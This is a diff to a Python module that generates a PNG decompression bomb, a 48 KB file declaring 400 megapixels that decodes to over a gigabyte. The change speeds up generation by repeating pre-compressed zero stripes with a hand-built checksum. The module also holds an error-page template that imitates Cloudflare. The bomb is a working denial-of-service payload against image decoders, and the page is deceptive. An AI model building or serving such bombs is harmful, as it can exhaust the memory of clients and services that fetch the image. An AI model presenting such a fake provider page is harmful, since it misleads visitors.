@@ -7,6 +7,7 @@ from functools import cache
 # 20,000 x 20,000 pixels are 1.1 GB once decoded to RGB; in one bit per pixel they are 50 MB of zeros, 48 KB packed.
 BOMB_SIDE = 20_000
 BOMB_ROW_BYTES = 1 + BOMB_SIDE // 8
+BOMB_STRIPES = 20
 EDGE_PAGE = """<!DOCTYPE html>
 <html lang="en-US"><head><title>{status}: {reason}</title></head>
 <body><h1>{reason} <span>Error code {status}</span></h1><p>cloudflare</p></body></html>
@@ -44,9 +45,13 @@ def edge_page(status: int) -> bytes:
 @cache
 def bomb() -> bytes:
     """A valid PNG of about 48 KB that declares 400 megapixels."""
-    packer = zlib.compressobj(9)
-    rows = bytes(BOMB_ROW_BYTES * 100)
-    packed = b"".join(packer.compress(rows) for _ in range(BOMB_SIDE // 100)) + packer.flush()
+    # Equal stripes of zeros, each packed without regard to the one before, are the same bytes again and again; so one
+    # is packed, and the server isn't busy for the time that 50 MB take.
+    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
+    stripe = packer.compress(bytes(BOMB_ROW_BYTES * BOMB_SIDE // BOMB_STRIPES)) + packer.flush(zlib.Z_FULL_FLUSH)
+    last_block = b"\x03\x00"
+    checksum = struct.pack(">HH", BOMB_ROW_BYTES * BOMB_SIDE % 65521, 1)  # Adler-32 of that many zeros
+    packed = b"\x78\xda" + stripe * BOMB_STRIPES + last_block + checksum
     header = struct.pack(">IIBBBBB", BOMB_SIDE, BOMB_SIDE, 1, 0, 0, 0, 0)
     return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")
 
